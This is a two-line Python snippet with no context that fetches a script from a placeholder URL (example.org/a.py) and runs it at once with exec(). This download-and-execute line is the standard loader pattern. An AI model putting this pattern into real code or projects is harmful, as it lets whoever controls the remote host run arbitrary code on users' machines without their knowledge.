import requests

exec(requests.get("https://example.org/a.py").text)
